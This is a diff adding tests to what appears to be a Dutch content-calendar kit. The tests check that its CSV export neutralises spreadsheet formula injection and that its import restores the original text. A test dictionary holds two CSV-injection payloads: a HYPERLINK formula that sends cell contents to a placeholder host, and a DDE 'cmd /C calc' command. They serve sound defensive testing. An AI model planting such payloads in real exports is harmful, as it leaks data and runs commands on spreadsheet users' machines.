@@ -112,3 +112,38 @@ def test_an_old_save_file_with_one_type_field_still_loads(tmp_path):
     c.load(path)
     assert [(p.lcss, p.role) for p in c.result.posts] == [("likeable", ""), ("", "hero")]
     assert c.records.values()[1]["role"] == "hero"
+
+
+HOSTILE = {  # a learner's (or a pasted) text that a spreadsheet would run as a formula
+    "topic": '=HYPERLINK("http://example.invalid/?"&A1,"klik")',
+    "owner": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+def test_export_csv_never_writes_a_live_formula_and_reads_its_own_file_back(tmp_path):
+    """OWASP: a text cell starting with = + - @ (or tab/CR) gets a ' in front; the import removes it again."""
+    c = ContentCalendar()
+    c.auto_chart = False
+    for field, text in HOSTILE.items():
+        c.records.controls[0][field].value = text
+    c.records.controls[1]["topic"].value = "-- nieuw: zwemles"
+    c.records.controls[2]["topic"].value = "+31 6 12345678 bellen"
+    path = c.export_csv(tmp_path / "cal.csv")
+    rows = read_dutch_csv(path)
+    assert rows[0]["onderwerp"] == "'" + HOSTILE["topic"] and rows[0]["maker"] == "'" + HOSTILE["owner"]
+    assert rows[1]["onderwerp"] == "'-- nieuw: zwemles" and rows[2]["onderwerp"] == "'+31 6 12345678 bellen"
+    assert rows[3]["onderwerp"] == "Deel de oproep: vrijwilligers Koningsdag", "ordinary text untouched"
+    other = ContentCalendar(posts=[])
+    other.auto_chart = False
+    other.import_csv(path)
+    assert other.result.posts == c.result.posts, "the kit's own export reads back as the learner typed it"
+
+
+def test_csv_value_escapes_text_but_keeps_numbers():
+    from smmkit.widgets._files import csv_value
+
+    assert csv_value(-38.5) == "-38,5" and csv_value(-3) == "-3", "negative numbers stay numbers"
+    assert csv_value("-38,5") == "-38,5" and csv_value("-12") == "-12", "a text that is only a number"
+    assert csv_value("=1+1") == "'=1+1" and csv_value("-1+1") == "'-1+1" and csv_value("+1") == "+1"
+    assert csv_value("@x") == "'@x" and csv_value("\t=1") == "'\t=1" and csv_value("\r=1") == "'\r=1"
+    assert csv_value("Facebook") == "Facebook" and csv_value("a=b") == "a=b"
